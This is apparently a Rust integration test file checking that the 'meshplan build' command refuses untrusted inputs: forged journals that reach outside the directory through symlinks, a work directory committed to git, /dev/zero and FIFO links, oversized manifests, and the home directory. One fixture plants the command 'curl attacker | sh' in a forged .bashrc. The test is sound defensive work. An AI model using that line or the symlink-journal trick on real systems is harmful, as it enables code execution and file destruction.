//! `meshplan build` against a DIR it cannot trust (issue #20): a work directory and journal
//! forged by hand, carried in by `git clone` or made by a same-user attacker who knows its
//! inode; files that would make it read forever or hang; and the home directory with HOME
//! unset. (A directory swapped for a link during the commit: the unit tests in src/emit.)

#![allow(clippy::unwrap_used)] // a failed unwrap in a test is a test failure with its location
#![cfg(unix)]

use std::fs;
use std::os::unix::fs::{MetadataExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant, UNIX_EPOCH};

#[path = "support/files.rs"]
mod files;
use files::tree_no_follow as tree;

const PLAN: &str = "plans/three-cloud-metallb.toml";
const WORK: &str = ".meshplan-staging";

fn scratch(test: &str) -> PathBuf {
    let dir = std::env::temp_dir()
        .join(format!("meshplan-untrusted-{}", std::process::id()))
        .join(test);
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).unwrap();
    dir
}

/// Runs meshplan from the repository root; a run that has not ended after 20 s is killed and
/// fails the test (a FIFO or `/dev/zero` must not make meshplan wait or read forever).
fn meshplan(args: &[&str], home: Home) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_meshplan"));
    command
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    match home {
        Home::Inherit => {}
        Home::Unset => {
            command.env_remove("HOME");
        }
        Home::Set(value) => {
            command.env("HOME", value);
        }
    }
    let mut child = command.spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("meshplan {args:?} did not end within 20 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

#[derive(Clone, Copy)]
enum Home<'a> {
    Inherit,
    Unset,
    Set(&'a str),
}

fn build(out: &Path) -> Output {
    meshplan(&["build", PLAN, "-o", out.to_str().unwrap()], Home::Inherit)
}

fn check(out: &Path) -> Output {
    meshplan(
        &["build", PLAN, "-o", out.to_str().unwrap(), "--check"],
        Home::Inherit,
    )
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn built(out: &Path) {
    let done = build(out);
    assert_eq!(done.status.code(), Some(0), "{}", stderr(&done));
}

/// A directory outside DIR holding one file.
fn outside(base: &Path, name: &str, file: &str, text: &str) -> PathBuf {
    let dir = base.join(name);
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join(file), text).unwrap();
    dir
}

/// A work directory as someone other than meshplan would write it: a marker, a journal, and
/// files in its `old` folder.
fn forge_work_dir(out: &Path, marker: &str, journal: &str, old: &[(&str, &str)]) {
    let work = out.join(WORK);
    fs::create_dir_all(&work).unwrap();
    fs::write(work.join("meshplan-work"), marker).unwrap();
    fs::write(work.join("journal"), journal).unwrap();
    for (path, text) in old {
        let file = work.join("old").join(path);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, text).unwrap();
    }
}

/// What meshplan writes in its marker for a directory (inode and birth time), computed the way
/// an attacker on the same machine could.
fn identity(dir: &Path) -> String {
    let meta = fs::symlink_metadata(dir).unwrap();
    let born = meta
        .created()
        .ok()
        .and_then(|t| t.duration_since(UNIX_EPOCH).ok())
        .map_or("-".to_owned(), |d| {
            format!("{}.{:09}", d.as_secs(), d.subsec_nanos())
        });
    format!("{} {born}", meta.ino())
}

#[test]
fn a_forged_journal_deletes_nothing_outside_dir() {
    // The review's B1, exactly.
    let base = scratch("forged_delete");
    let away = outside(&base, "j_out", "victim.txt", "PRECIOUS\n");
    let out = base.join("t");
    built(&out);
    forge_work_dir(
        &out,
        "x\n",
        "meshplan journal 1\nnew evil/victim.txt\n",
        &[],
    );
    symlink("../j_out", out.join("evil")).unwrap();
    let before = (tree(&out), tree(&away));

    let checked = check(&out);
    assert_eq!(checked.status.code(), Some(2));
    let message = stderr(&checked);
    assert!(
        message.contains("cannot prove") && message.contains("move it away"),
        "{message}"
    );
    assert!(
        !message.contains("run `meshplan build`"),
        "check must not send the user to build: {message}"
    );

    let run = build(&out);
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(stderr(&run).contains("cannot prove"), "{}", stderr(&run));
    assert_eq!(
        (tree(&out), tree(&away)),
        before,
        "nothing changed anywhere"
    );
}

#[test]
fn a_forged_journal_overwrites_nothing_outside_dir() {
    // The review's B2: an `old` line and a file in the work directory's `old` folder.
    let base = scratch("forged_overwrite");
    let away = outside(&base, "j2_out", ".bashrc", "ORIGINAL bashrc\n");
    let out = base.join("t");
    built(&out);
    forge_work_dir(
        &out,
        "x\n",
        "meshplan journal 1\nold evil/.bashrc\n",
        &[("evil/.bashrc", "curl attacker | sh   # planted\n")],
    );
    symlink("../j2_out", out.join("evil")).unwrap();
    let run = build(&out);
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert_eq!(
        fs::read_to_string(away.join(".bashrc")).unwrap(),
        "ORIGINAL bashrc\n"
    );
}

#[test]
fn a_forger_who_knows_the_inode_still_cannot_reach_through_a_link() {
    // The strongest forger: the same user on the same machine, whose marker and journal name
    // the work directory's real identity and the victims' real inodes. Recovery then follows
    // the journal, but under the build's own rules: no link on the way is ever followed.
    let base = scratch("forged_identity");
    let away = outside(&base, "target", "victim.txt", "PRECIOUS\n");
    fs::write(away.join(".bashrc"), "ORIGINAL\n").unwrap();
    let out = base.join("t");
    built(&out);
    let work = out.join(WORK);
    fs::create_dir_all(work.join("old/evil")).unwrap();
    fs::write(work.join("old/evil/.bashrc"), "planted\n").unwrap();
    let id = identity(&work);
    let ino = |p: &Path| fs::metadata(p).unwrap().ino();
    fs::write(
        work.join("meshplan-work"),
        format!("meshplan's work directory: it removes it when a build ends\nwork {id}\n"),
    )
    .unwrap();
    fs::write(
        work.join("journal"),
        format!(
            "meshplan journal 2\nwork {id}\nnew {} evil/victim.txt\nreplace {} {} evil/.bashrc\n",
            ino(&away.join("victim.txt")),
            ino(&work.join("old/evil/.bashrc")),
            ino(&away.join(".bashrc")),
        ),
    )
    .unwrap();
    symlink(&away, out.join("evil")).unwrap();
    let before = tree(&away);
    let run = build(&out);
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(stderr(&run).contains("symbolic link"), "{}", stderr(&run));
    assert_eq!(tree(&away), before);
}

fn git(dir: &Path, args: &[&str]) {
    let done = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git runs (the test needs git, as CI has)");
    assert!(done.status.success(), "git {args:?}: {}", stderr(&done));
}

#[test]
fn a_work_directory_committed_to_git_is_refused_after_a_clone() {
    // The review's B3: a pull request commits a work directory and an absolute link; CI clones
    // and builds. The marker and journal name the forger's own directory, which the clone is not.
    let base = scratch("forged_git");
    let away = outside(&base, "gv", "victim.txt", "ORIGINAL\n");
    fs::write(away.join("delete-me.txt"), "keep me\n").unwrap();
    let repo = base.join("repo");
    let deploy = repo.join("deploy");
    built(&deploy);
    let work = deploy.join(WORK);
    fs::create_dir_all(work.join("old/evil")).unwrap();
    let id = identity(&work);
    fs::write(
        work.join("meshplan-work"),
        format!("meshplan's work directory: it removes it when a build ends\nwork {id}\n"),
    )
    .unwrap();
    fs::write(
        work.join("journal"),
        format!(
            "meshplan journal 2\nwork {id}\nnew 1 evil/delete-me.txt\nremove 2 evil/victim.txt\n"
        ),
    )
    .unwrap();
    fs::write(work.join("old/evil/victim.txt"), "ATTACKER CONTENT\n").unwrap();
    symlink(&away, deploy.join("evil")).unwrap();
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "forged"]);
    let clone = base.join("clone");
    git(&base, &["clone", "-q", "repo", "clone"]);
    assert!(clone.join("deploy").join(WORK).join("journal").is_file());

    let before = tree(&away);
    let run = build(&clone.join("deploy"));
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(
        stderr(&run).contains("git checkout"),
        "the refusal says where such a directory comes from: {}",
        stderr(&run)
    );
    assert_eq!(tree(&away), before);
}

#[test]
fn a_manifest_linked_to_dev_zero_is_refused_at_once() {
    // The review's K2: a committed `.meshplan-manifest -> /dev/zero` must not eat CI's memory
    // through the documented `build --check` guard.
    let out = scratch("manifest_zero").join("t");
    built(&out);
    fs::remove_file(out.join(".meshplan-manifest")).unwrap();
    symlink("/dev/zero", out.join(".meshplan-manifest")).unwrap();
    for run in [check(&out), build(&out)] {
        assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
        assert!(stderr(&run).contains("symbolic link"), "{}", stderr(&run));
    }
}

#[test]
fn a_tree_file_linked_to_dev_zero_or_a_fifo_is_not_read() {
    let out = scratch("tree_zero").join("t");
    built(&out);
    fs::remove_file(out.join("install.sh")).unwrap();
    symlink("/dev/zero", out.join("install.sh")).unwrap();
    let run = check(&out);
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(stderr(&run).contains("install.sh"), "{}", stderr(&run));

    fs::remove_file(out.join("install.sh")).unwrap();
    let made = Command::new("mkfifo").arg(out.join("install.sh")).status();
    assert!(made.unwrap().success(), "mkfifo (coreutils) runs");
    for run in [check(&out), build(&out)] {
        assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
        assert!(
            stderr(&run).contains("not a regular file"),
            "{}",
            stderr(&run)
        );
    }
}

#[test]
fn an_oversized_manifest_is_refused_without_reading_it() {
    let out = scratch("manifest_huge").join("t");
    built(&out);
    let manifest = fs::OpenOptions::new()
        .write(true)
        .open(out.join(".meshplan-manifest"))
        .unwrap();
    manifest.set_len(65 << 20).unwrap(); // sparse: no disk, no memory
    for run in [check(&out), build(&out)] {
        assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
        assert!(stderr(&run).contains("larger than"), "{}", stderr(&run));
    }
}

#[test]
fn a_journal_linked_to_dev_zero_is_not_read() {
    let out = scratch("journal_zero").join("t");
    built(&out);
    let work = out.join(WORK);
    fs::create_dir_all(&work).unwrap();
    let id = identity(&work);
    fs::write(
        work.join("meshplan-work"),
        format!("meshplan's work directory: it removes it when a build ends\nwork {id}\n"),
    )
    .unwrap();
    symlink("/dev/zero", work.join("journal")).unwrap();
    for run in [check(&out), build(&out)] {
        assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
        assert!(
            stderr(&run).contains("journal is not a regular file"),
            "{}",
            stderr(&run)
        );
    }
}

/// The running user's home in the password database.
fn passwd_home() -> PathBuf {
    let uid = fs::metadata("/proc/self").unwrap().uid();
    let passwd = fs::read_to_string("/etc/passwd").unwrap();
    let home = passwd
        .lines()
        .map(|line| line.split(':').collect::<Vec<_>>())
        .find(|f| f.len() > 5 && f[2] == uid.to_string())
        .map(|f| PathBuf::from(f[5]))
        .unwrap();
    assert!(
        fs::read_dir(&home).unwrap().next().is_some(),
        "{} must be non-empty, so that a regression is refused as a non-empty directory rather than written into",
        home.display()
    );
    home
}

#[test]
fn the_home_directory_is_refused_whatever_home_says() {
    // The review's B12: with HOME unset (or empty, or pointing elsewhere), the home directory
    // must still be refused.
    let home = passwd_home();
    let elsewhere = scratch("home_elsewhere");
    let elsewhere = elsewhere.to_str().unwrap();
    for env in [Home::Unset, Home::Set(""), Home::Set(elsewhere)] {
        let run = meshplan(
            &["build", PLAN, "-o", home.to_str().unwrap(), "--check"],
            env,
        );
        assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
        assert!(
            stderr(&run).contains("refusing to build into the home directory"),
            "{}",
            stderr(&run)
        );
        let run = meshplan(&["build", PLAN, "-o", home.to_str().unwrap()], env);
        assert!(
            stderr(&run).contains("refusing to build into the home directory"),
            "{}",
            stderr(&run)
        );
    }
    assert!(!home.join(".meshplan-manifest").exists());
}
